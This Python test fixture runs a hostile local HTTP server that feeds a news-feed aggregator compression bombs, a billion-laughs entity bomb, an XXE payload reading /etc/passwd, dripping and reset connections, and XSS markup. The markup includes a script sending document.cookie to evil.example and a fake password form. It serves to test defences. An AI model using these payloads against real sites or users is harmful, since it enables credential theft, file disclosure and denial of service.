"""A misbehaving HTTP server on 127.0.0.1 for end-to-end tests: one path per hostile case.

Every case is something real publishers (or attackers posing as one) do: compression bombs,
bodies too large to keep, servers that drip bytes or headers, connections reset mid-way,
documents that are not feeds, entity bombs, every way to get a character encoding wrong,
hostile markup, and feeds that are merely absurd (10,000 items, a 100,000-character title).

Responses are written as raw bytes on the socket (`_respond`), never through
`BaseHTTPRequestHandler.send_response`, so each case controls exactly what goes on the wire.
Every response closes its connection. `HostileServer.stop()` wakes every dripping handler.

The texts in other scripts are real words, so a test can assert exact decoding.
"""

from __future__ import annotations

import functools
import socket
import struct
import threading
import unicodedata
import zlib
from collections import Counter
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from xml.sax.saxutils import escape

import brotli

MIB = 1 << 20
BOMB_SIZE = 1 << 30  # what each compression bomb inflates to: 1 GiB of zeros
HUGE_SIZE = 15 * MIB
SITE = "https://hostile.example.org/"
BASE_DATE = datetime(2025, 7, 13, 12, 0, tzinfo=UTC)

# -- texts: real words, so decoding can be checked exactly -----------------------------------

RUSSIAN = (
    "Съешь же ещё этих мягких французских булок, да выпей чаю",
    "В Москве открылась новая станция метро «Южная»",
)
FRENCH = (
    "Élections régionales : la participation en hausse à Besançon",
    "L'été sera chaud, prévient Météo-France",
    "Où est passée la crème brûlée ?",
)
JAPANESE = ("東京で桜が満開になりました", "新しい駅が来月開業します")
CHINESE = ("北京今天天气晴朗", "国家图书馆举办古籍展览")
HINDI = (
    "दिल्ली में भारी बारिश से यातायात प्रभावित",
    "मानसून सत्र की शुरुआत राहत पर बहस से हुई",
)
# /control-chars: raw NUL and VT in the document; XML forbids both, so they must go.
CONTROL_TITLES = {
    "Control\x00 characters\x0b removed": "Control characters removed",
    "नमस्ते\x0b दुनिया\x00": "नमस्ते दुनिया",
}
CONTROL_SUMMARY = ("<p>Null\x00 byte and vertical\x0b tab</p>", "<p>Null byte and vertical tab</p>")
# /invalid-bytes: a UTF-8 feed where one item carries malformed sequences.
INVALID_HEAD, INVALID_TAIL = "मुंबई", "शेयर बाजार में तेजी"
# /markup
MARKUP_TITLES = {
    "<em>Breaking</em>: <b>markets</b> rally": "Breaking: markets rally",
    "Javascript-only link": "Javascript-only link",
    '<script>alert("title")</script>Headline with a script': "Headline with a script",
}
MARKUP_STORY = SITE + "news/markets"
MARKUP_RELATIVE_STORY = SITE + "news/relative-story"
MARKUP_ABSOLUTE_URLS = (
    SITE + "news/markets/full",  # href="/news/markets/full"
    SITE + "news/images/chart.png",  # src="images/chart.png", against the item's link
    SITE + "about",  # href="../about"
    "https://cdn.example.org/report.pdf",  # href="//cdn.example.org/report.pdf"
    SITE + "static/logo.png",  # src="/static/logo.png"
    SITE + "news/photos/1.jpg",  # href="photos/1.jpg" in the item whose link is relative
)
MANY_ITEMS = 10_000
# Titles of about 1 MB that cost quadratic time in a pattern that restarts at every "<":
# escaped "<b>" over and over (tag detection), "<p" never closed (block boundaries).
ESCAPED_MARKUP_REPEATS = 100_000
UNCLOSED_TAG_REPEATS = 150_000
# A document slow for feedparser itself, caps or not: one item holding empty elements
# ("<i/>"), four bytes each, every one a call of feedparser's handlers: 200,000 of them
# (800 KB) took 3.7 s here, linear in their number. What a parse budget is for.
SLOW_ELEMENTS = 400_000  # 1.6 MB: over a budget of a few seconds
RUNAWAY_ELEMENTS = 2_000_000  # 8 MB, under the default max_bytes: over half a minute
# Bidi controls a title can carry to read backwards; the marks (U+200E, U+200F) stay.
BIDI_TITLE = (
    "\u202eexe.\u202cjpg \u2066isolated\u2069 \u202aembedded\u202c",
    "exe.jpg isolated embedded",
)
BIDI_URDU = ("اردو\u200f خبر \u200eABC\u200e", "اردو\u200f خبر \u200eABC\u200e")
# RSS titles that decode to markup (written in the document as &lt;… or &amp;lt;…), and one
# about markup, which must stay as it is.
DOUBLE_ESCAPED = {
    "&amp;lt;b&amp;gt;Big&amp;lt;/b&amp;gt; news": "Big news",
    "&lt;i&gt;Italic&lt;/i&gt; and &lt;br/&gt;broken": "Italic and broken",
    "&amp;amp;lt;em&amp;amp;gt;Triple&amp;amp;lt;/em&amp;amp;gt; escaped": "Triple escaped",
    "The &lt;b&gt; tag explained": "The <b> tag explained",
    "Why 3 &lt; 5 &amp;&amp; 5 &gt; 3": "Why 3 < 5 && 5 > 3",
}
LONG_TITLE_LENGTH = 100_000
SHARED_GUID_ITEMS = 50
TRUNCATED_COMPLETE = ("Complete story one", "Complete story two", "Complete story three")


def _long_title() -> str:
    words = "लंबा शीर्षक वाली खबर का पाठ "  # "the text of a long headline"
    text = (words * (LONG_TITLE_LENGTH // len(words) + 1))[:LONG_TITLE_LENGTH]
    text = text[:-1] + "।" if text.endswith(" ") else text
    assert len(text) == LONG_TITLE_LENGTH
    return text


LONG_TITLE = _long_title()

for _text in (*RUSSIAN, *FRENCH, *JAPANESE, *CHINESE, *HINDI, LONG_TITLE, INVALID_TAIL):
    assert unicodedata.normalize("NFC", _text) == _text, _text  # published text is NFC


# -- documents ---------------------------------------------------------------------------------


# Each document's items are n minutes old plus its own number of seconds, so no two items of
# different cases share a date (the W3C validator warns about Atom entries that do).
_DOCUMENTS = (
    "many", "laughs", "xxe", "cut", "ctl", "bad", "markup", "long", "noguid", "shared", "huge",
    "drip", "xmlonly", "headeronly", "none", "wrong", "reverse", "gb", "bom", "bomlatin",
    "escaped", "unclosed", "slow", "bidi", "double",
)  # fmt: skip


def _date(n: int, document: str) -> str:
    return format_datetime(BASE_DATE - timedelta(minutes=n, seconds=_DOCUMENTS.index(document)))


def item(
    title: str | None,
    *,
    guid: str | None = None,
    link: str | None = None,
    date: str | None = None,
    description: str | None = None,
    raw_title: bool = False,
) -> str:
    """One RSS 2.0 <item>; `raw_title` puts the title in CDATA instead of escaping it."""
    parts = ["<item>"]
    if title is not None:
        parts.append(
            f"<title><![CDATA[{title}]]></title>"
            if raw_title
            else f"<title>{escape(title)}</title>"
        )
    if link is not None:
        parts.append(f"<link>{escape(link)}</link>")
    if guid is not None:
        parts.append(f'<guid isPermaLink="false">{escape(guid)}</guid>')
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    if description is not None:
        parts.append(f"<description><![CDATA[{description}]]></description>")
    parts.append("</item>")
    return "".join(parts)


def rss(
    items: Sequence[str],
    *,
    title: str = "Hostile",
    declaration: str = '<?xml version="1.0" encoding="utf-8"?>',
    doctype: str = "",
) -> str:
    return "\n".join(
        [
            declaration,
            *([doctype] if doctype else []),
            '<rss version="2.0"><channel>',
            f"<title>{escape(title)}</title><link>{SITE}</link>",
            f"<description>{escape(title)}</description>",
            *items,
            "</channel></rss>",
        ]
    )


def _titled(titles: Sequence[str], prefix: str) -> list[str]:
    return [
        item(
            t,
            guid=f"{prefix}-{n}",
            link=f"{SITE}{prefix}/{n}",
            date=_date(n, prefix),
            description=t,
        )
        for n, t in enumerate(titles)
    ]


def _xml_declaring(encoding: str | None) -> str:
    if encoding is None:
        return '<?xml version="1.0"?>'
    return f'<?xml version="1.0" encoding="{encoding}"?>'


def charset_document(
    titles: Sequence[str], prefix: str, encoding: str, declared: str | None
) -> bytes:
    return rss(_titled(titles, prefix), declaration=_xml_declaring(declared)).encode(encoding)


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    doctype = "<!DOCTYPE rss [\n" + "\n".join(entities) + "\n]>"
    body = (
        '<item><title>Laughs: &lol9;</title><guid isPermaLink="false">laughs</guid>'
        f"<link>{SITE}laughs</link><pubDate>{_date(0, 'laughs')}</pubDate>"
        "<description>&lol9; &lol8; &lol7;</description></item>"
    )
    return rss([body], title="Laughs &lol9;", doctype=doctype).encode()


def external_entity(probe_url: str) -> bytes:
    """General and parameter entities naming a local file and an URL on this very server."""
    doctype = (
        "<!DOCTYPE rss [\n"
        '<!ENTITY secret SYSTEM "file:///etc/passwd">\n'
        f'<!ENTITY remote SYSTEM "{probe_url}">\n'
        f'<!ENTITY % dtd SYSTEM "{probe_url}">\n'
        "%dtd;\n"
        "]>"
    )
    body = (
        '<item><title>Leak: &secret;</title><guid isPermaLink="false">xxe</guid>'
        f"<link>{SITE}xxe</link><pubDate>{_date(0, 'xxe')}</pubDate>"
        "<description>&secret; &remote;</description></item>"
    )
    return rss([body], title="External &remote;", doctype=doctype).encode()


HTML_PAGE = (
    b'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Welcome</title></head>'
    b"<body><h1>Our news</h1><p>The feed moved; this is our home page.</p></body></html>\n"
)
JSON_PAGE = b'{"error": {"code": 503, "message": "Service temporarily unavailable"}}\n'


def truncated() -> bytes:
    items = _titled(TRUNCATED_COMPLETE, "cut")
    items.append(item("Cut short", guid="cut-3", link=f"{SITE}cut/3", date=_date(3, "cut")))
    items.append(item("Never seen", guid="cut-4", link=f"{SITE}cut/4", date=_date(4, "cut")))
    whole = rss(items).encode()
    cut = whole.index(b"<item><title>Cut short</title>") + len(b"<item><title>Cut sh")
    return whole[:cut]


def control_chars() -> bytes:
    items = [
        item(raw, guid=f"ctl-{n}", link=f"{SITE}ctl/{n}", date=_date(n, "ctl"))
        for n, raw in enumerate(CONTROL_TITLES)
    ]
    items.append(
        item(
            "Summary with controls",
            guid="ctl-2",
            link=f"{SITE}ctl/2",
            date=_date(2, "ctl"),
            description=CONTROL_SUMMARY[0],
        )
    )
    return rss(items).encode()


def invalid_bytes() -> bytes:
    clean = rss(_titled(HINDI, "bad")).encode()
    dirty = (
        f'<item><guid isPermaLink="false">bad-x</guid><link>{SITE}bad/x</link>'
        f"<pubDate>{_date(5, 'bad')}</pubDate><title>"
    ).encode()
    dirty += INVALID_HEAD.encode() + b"\xff\xc3\x28 " + INVALID_TAIL.encode() + b"</title>"
    dirty += b"<description>" + "समाचार".encode() + b"\xc0\xaf\xe0\xa4</description></item>"
    return clean.replace(b"</channel>", dirty + b"</channel>")


def markup() -> bytes:
    story = (
        '<p onclick="steal()" style="color:red">Read <a href="/news/markets/full" '
        'onclick="track()">the full story</a> <img src="images/chart.png" alt="chart" '
        'onerror="steal()"></p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<style>body { display: none }</style>"
        '<iframe src="https://evil.example/frame"></iframe>'
        '<form action="https://evil.example/login" method="post">'
        '<input type="password" name="pw"><button>Log in</button></form>'
        '<a href="javascript:alert(1)">plain javascript</a> '
        '<a href=" JaVaScRiPt:alert(2)">shouting javascript</a> '
        '<a href="java&#x09;script:alert(3)">tabbed javascript</a> '
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel"> '
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'
        '<svg onload="alert(4)"><circle r="1"/></svg>'
        '<object data="https://evil.example/x.swf"></object>'
        '<embed src="https://evil.example/x.swf">'
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/x">'
        '<p><a href="../about">About us</a>, <a href="//cdn.example.org/report.pdf">report</a>, '
        '<img src="/static/logo.png" alt="logo"></p>'
    )
    titles = list(MARKUP_TITLES)
    items = [
        item(titles[0], guid="markup-0", link=MARKUP_STORY, date=_date(0, "markup"),
             description=story, raw_title=True),
        item(titles[1], guid="markup-js", link="javascript:alert(document.cookie)",
             date=_date(1, "markup"), description="<p>This item's only link is a script.</p>"),
        item(titles[2], guid="markup-2", link="/news/relative-story", date=_date(2, "markup"),
             description='<p>See <a href="photos/1.jpg">the photos</a>.</p>'),
    ]  # fmt: skip
    return rss(items).encode()


def many_items() -> bytes:
    items = [
        item(
            f"Item {n} of many",
            guid=f"many-{n}",
            link=f"{SITE}many/{n}",
            date=_date(n, "many"),
            description=f"<p>Story number {n}.</p>",
        )
        for n in range(MANY_ITEMS)
    ]
    return rss(items, title="Ten thousand").encode()


def long_title() -> bytes:
    items = [
        item(
            LONG_TITLE,
            guid="long-0",
            link=f"{SITE}long/0",
            date=_date(0, "long"),
            description="<p>x</p>",
        )
    ]
    return rss(items).encode()


def _raw_titled(titles: Sequence[str], prefix: str) -> str:
    """An RSS document whose titles are written as given: already escaped, not escaped again."""
    items = [
        item(
            f"RAW{n}", guid=f"{prefix}-{n}", link=f"{SITE}{prefix}/{n}", date=_date(n, prefix)
        ).replace(f"<title>RAW{n}</title>", f"<title>{title}</title>")
        for n, title in enumerate(titles)
    ]
    return rss(items)


@functools.cache
def escaped_markup_title() -> bytes:
    """One item titled "&lt;b&gt;" 100,000 times (900 KB), beside an ordinary item."""
    return _raw_titled(["&lt;b&gt;" * ESCAPED_MARKUP_REPEATS, "Escaped fine"], "escaped").encode()


@functools.cache
def unclosed_tag_title() -> bytes:
    """One item titled "&lt;p" 150,000 times (600 KB): tag starts that never close."""
    return _raw_titled(["&lt;p" * UNCLOSED_TAG_REPEATS, "Unclosed fine"], "unclosed").encode()


@functools.cache
def slow_to_parse(elements: int = SLOW_ELEMENTS) -> bytes:
    """An ordinary item followed by `elements` empty elements feedparser must walk through."""
    slow = item("Slow to parse", guid="slow-0", link=f"{SITE}slow/0", date=_date(0, "slow"))
    return rss([slow.replace("</item>", "<i/>" * elements + "</item>")]).encode()


def bidi_titles() -> bytes:
    return rss(
        _titled([BIDI_TITLE[0], BIDI_URDU[0]], "bidi"), title="\u202eBidi\u202c feed"
    ).encode()


def double_escaped() -> bytes:
    return _raw_titled(list(DOUBLE_ESCAPED), "double").encode()


NO_DATE_TITLES = ("Undated story one", "Undated story two", "Undated story three")
NO_GUID_TITLES = ("Only a link", "Neither guid nor link", "Also neither guid nor link")


def no_dates() -> bytes:
    items = [
        item(t, guid=f"nodate-{n}", link=f"{SITE}nodate/{n}", description=f"<p>{t}</p>")
        for n, t in enumerate(NO_DATE_TITLES)
    ]
    return rss(items).encode()


def no_guids() -> bytes:
    items = [
        item(
            NO_GUID_TITLES[0],
            link=f"{SITE}noguid/0",
            date=_date(0, "noguid"),
            description="<p>a</p>",
        ),
        item(NO_GUID_TITLES[1], date=_date(1, "noguid"), description="<p>b</p>"),
        item(NO_GUID_TITLES[2], date=_date(2, "noguid"), description="<p>c</p>"),
    ]
    return rss(items).encode()


def shared_guid() -> bytes:
    items = [
        item(
            f"Shared guid story {n}",
            guid="the-same-guid",
            link=f"{SITE}shared/{n}",
            date=_date(n, "shared"),
            description=f"<p>Story {n}</p>",
        )
        for n in range(SHARED_GUID_ITEMS)
    ]
    return rss(items).encode()


# -- compression bombs ------------------------------------------------------------------------


@functools.cache
def _raw_deflate_zeros() -> bytes:
    """1 GiB of zeros as one raw DEFLATE stream (about 1 MB), built in milliseconds.

    Streaming 1 GiB through `zlib.compressobj` takes seconds; but after a full flush the
    compressor starts afresh, so every MiB of zeros followed by Z_FULL_FLUSH compresses to
    the same bytes. Compress one MiB that way (twice, to prove the bytes repeat) and repeat.
    """
    chunk = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    second = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert first == second
    return first * (BOMB_SIZE // MIB) + compressor.flush(zlib.Z_FINISH)


@functools.cache
def gzip_bomb() -> bytes:
    crc = 0
    zeros = bytes(MIB)
    for _ in range(BOMB_SIZE // MIB):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, max compression
    return header + _raw_deflate_zeros() + struct.pack("<II", crc, BOMB_SIZE & 0xFFFFFFFF)


@functools.cache
def deflate_bomb() -> bytes:
    """HTTP's "deflate" is the zlib format (RFC 9110 8.4.1.2)."""
    adler = 1
    zeros = bytes(MIB)
    for _ in range(BOMB_SIZE // MIB):
        adler = zlib.adler32(zeros, adler)
    return b"\x78\xda" + _raw_deflate_zeros() + struct.pack(">I", adler)


@functools.cache
def brotli_bomb() -> bytes:
    """1 GiB of zeros at quality 11, streamed through `brotli.Compressor().process`.

    Quality 11 runs at about 15 MiB/s, so only the first MiBs are compressed: once the
    window is full of zeros, each further MiB followed by a flush gives the same bytes (checked
    here); those are repeated. The result decodes to exactly 1 GiB of zeros (checked once when
    this was written: 14 kB in, 1,073,741,824 zero bytes out).
    """
    chunk = bytes(MIB)
    compressor = brotli.Compressor(quality=11)
    head = compressor.process(chunk) + compressor.flush()
    steady = [compressor.process(chunk) + compressor.flush() for _ in range(3)]
    assert steady[0] == steady[1] == steady[2]
    repeats = BOMB_SIZE // MIB - 1 - len(steady)
    out: bytes = head + b"".join(steady) + steady[0] * repeats + compressor.finish()
    return out


@functools.cache
def huge() -> bytes:
    """A 15 MiB feed: a well-formed document padded with a comment."""
    head = rss(_titled(["Huge feed item"], "huge")).encode()
    padding = HUGE_SIZE - len(head) - len(b"<!--  -->")
    return head + b"<!-- " + b"x" * padding + b" -->"


# -- the server --------------------------------------------------------------------------------

Route = Callable[["_Handler"], None]


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    hostile: HostileServer

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # a client hanging up on a hostile response is the point, not an error


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.close_connection = True
        hostile = self.server.hostile
        path = self.path.split("?", 1)[0]
        hostile.record(path)
        route = ROUTES.get(path)
        try:
            if route is None:
                _respond(self, "404 Not Found", b"no such case\n", "text/plain")
            else:
                route(self)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the aggregator gave up on us, as it should

    @property
    def stopping(self) -> threading.Event:
        return self.server.hostile.stopping


def _respond(
    h: _Handler,
    status: str,
    body: bytes,
    content_type: str | None = "application/rss+xml",
    headers: Sequence[tuple[str, str]] = (),
    *,
    length: int | None = None,
) -> None:
    """A whole response in raw bytes; `length` overrides the Content-Length sent."""
    lines = [f"HTTP/1.1 {status}"]
    if content_type:
        lines.append(f"Content-Type: {content_type}")
    lines += [f"{name}: {value}" for name, value in headers]
    lines += [f"Content-Length: {len(body) if length is None else length}", "Connection: close"]
    h.wfile.write(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)


def _reset(h: _Handler) -> None:
    """Close the connection with an RST: SO_LINGER with a zero timeout, then close."""
    sock = h.connection
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    h.rfile.close()
    h.wfile.close()
    sock.close()  # the last reference to the descriptor: the kernel sends RST


def _document(body: Callable[[], bytes], content_type: str = "application/rss+xml") -> Route:
    def route(h: _Handler) -> None:
        _respond(h, "200 OK", body(), content_type)

    return route


def _encoded(bomb: Callable[[], bytes], coding: str) -> Route:
    def route(h: _Handler) -> None:
        _respond(h, "200 OK", bomb(), "application/rss+xml", [("Content-Encoding", coding)])

    return route


def _huge_chunked(h: _Handler) -> None:
    h.wfile.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    )
    body = huge()
    step = 64 * 1024
    for start in range(0, len(body), step):
        if h.stopping.is_set():
            return
        piece = body[start : start + step]
        h.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
    h.wfile.write(b"0\r\n\r\n")


def _drip(h: _Handler) -> None:
    """Complete headers at once, then the body one byte a second."""
    body = rss(_titled(["Dripped slowly"], "drip")).encode()
    h.wfile.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)
    )
    for n in range(len(body)):
        if h.stopping.wait(1.0):
            return
        h.wfile.write(body[n : n + 1])


def _drip_headers(h: _Handler) -> None:
    """A status line, then one more header line every half second, for a minute."""
    h.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n")
    for n in range(120):
        if h.stopping.wait(0.5):
            return
        h.wfile.write(b"X-Still-Coming-%d: yes\r\n" % n)
    _respond(h, "200 OK", b"")  # never reached by a client with a deadline


def _reset_at_once(h: _Handler) -> None:
    _reset(h)


def _reset_mid_body(h: _Handler) -> None:
    body = many_items()[:20_000]
    h.wfile.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
        b"Content-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body) * 2, body)
    )
    h.stopping.wait(0.2)
    _reset(h)


def _not_http(h: _Handler) -> None:
    h.wfile.write(b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n")


def _redirect_loop(h: _Handler) -> None:
    _respond(h, "302 Found", b"", None, [("Location", h.server.hostile.url("/redirect-loop"))])


def _external_entity(h: _Handler) -> None:
    _respond(h, "200 OK", external_entity(h.server.hostile.url("/xxe-probe")))


def _xxe_probe(h: _Handler) -> None:
    _respond(h, "200 OK", b'<!ENTITY leaked "fetched by the parser">', "application/xml-dtd")


ROUTES: dict[str, Route] = {
    "/gzip-bomb": _encoded(gzip_bomb, "gzip"),
    "/deflate-bomb": _encoded(deflate_bomb, "deflate"),
    "/brotli-bomb": _encoded(brotli_bomb, "br"),
    "/huge": _document(huge),
    "/huge-chunked": _huge_chunked,
    "/drip": _drip,
    "/drip-headers": _drip_headers,
    "/billion-laughs": _document(billion_laughs),
    "/external-entity": _external_entity,
    "/xxe-probe": _xxe_probe,
    "/html": _document(lambda: HTML_PAGE, "text/html; charset=utf-8"),
    "/empty": _document(lambda: b""),
    "/json": _document(lambda: JSON_PAGE, "application/json"),
    "/truncated": _document(truncated),
    "/reset": _reset_at_once,
    "/reset-mid-body": _reset_mid_body,
    "/not-http": _not_http,
    "/redirect-loop": _redirect_loop,
    "/charset-xml-only": _document(
        lambda: charset_document(RUSSIAN, "xmlonly", "windows-1251", "windows-1251"),
        "application/xml",
    ),
    "/charset-header-only": _document(
        lambda: charset_document(FRENCH, "headeronly", "iso-8859-1", None),
        "application/rss+xml; charset=ISO-8859-1",
    ),
    "/charset-none": _document(
        lambda: charset_document(JAPANESE, "none", "shift_jis", None), "application/xml"
    ),
    "/charset-wrong": _document(
        lambda: charset_document(RUSSIAN, "wrong", "windows-1251", "windows-1251"),
        "application/rss+xml; charset=utf-8",
    ),
    "/charset-wrong-reverse": _document(
        lambda: charset_document(RUSSIAN, "reverse", "utf-8", "utf-8"),
        "application/rss+xml; charset=windows-1251",
    ),
    "/gb2312": _document(
        lambda: charset_document(CHINESE, "gb", "gb2312", "gb2312"),
        "application/rss+xml; charset=gb2312",
    ),
    "/utf8-bom": _document(
        lambda: b"\xef\xbb\xbf" + charset_document(HINDI, "bom", "utf-8", "utf-8"),
        "application/rss+xml",
    ),
    "/utf8-bom-latin1-header": _document(
        lambda: b"\xef\xbb\xbf" + charset_document(HINDI, "bomlatin", "utf-8", "utf-8"),
        "text/xml; charset=ISO-8859-1",
    ),
    "/control-chars": _document(control_chars, "application/rss+xml; charset=utf-8"),
    "/invalid-bytes": _document(invalid_bytes, "application/rss+xml; charset=utf-8"),
    "/markup": _document(markup),
    "/ten-thousand": _document(many_items),
    "/long-title": _document(long_title),
    "/no-dates": _document(no_dates),
    "/no-guids": _document(no_guids),
    "/shared-guid": _document(shared_guid),
    "/escaped-markup-title": _document(escaped_markup_title),
    "/unclosed-tag-title": _document(unclosed_tag_title),
    "/slow-to-parse": _document(slow_to_parse),
    "/bidi": _document(bidi_titles),
    "/double-escaped": _document(double_escaped),
}
# Paths that are hostile cases (the probe is only there to be asked for, or not; a slow
# parse is for the budget's own tests, where the budget is small).
CASES = tuple(path for path in ROUTES if path not in ("/xxe-probe", "/slow-to-parse"))


class HostileServer:
    """`start()`, then `url(path)` for a case; `refused_url` names a port nobody listens on."""

    def __init__(self) -> None:
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        self._requests: Counter[str] = Counter()
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None
        self.refused_url = ""

    def start(self) -> HostileServer:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
            probe.bind(("127.0.0.1", 0))
            free_port = probe.getsockname()[1]
        self.refused_url = f"http://127.0.0.1:{free_port}/refused.xml"
        # Build the bombs before serving: the first request must not wait seconds for them.
        for build in (
            gzip_bomb, deflate_bomb, brotli_bomb, huge, many_items, escaped_markup_title,
            unclosed_tag_title, slow_to_parse,
        ):  # fmt: skip
            build()
        self._server = _Server(("127.0.0.1", 0), _Handler)
        self._server.hostile = self
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self.stopping.set()
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=10)

    def __enter__(self) -> HostileServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def port(self) -> int:
        assert self._server is not None
        return int(self._server.server_address[1])

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def record(self, path: str) -> None:
        with self._lock:
            self._requests[path] += 1

    def requests(self, path: str) -> int:
        with self._lock:
            return self._requests[path]
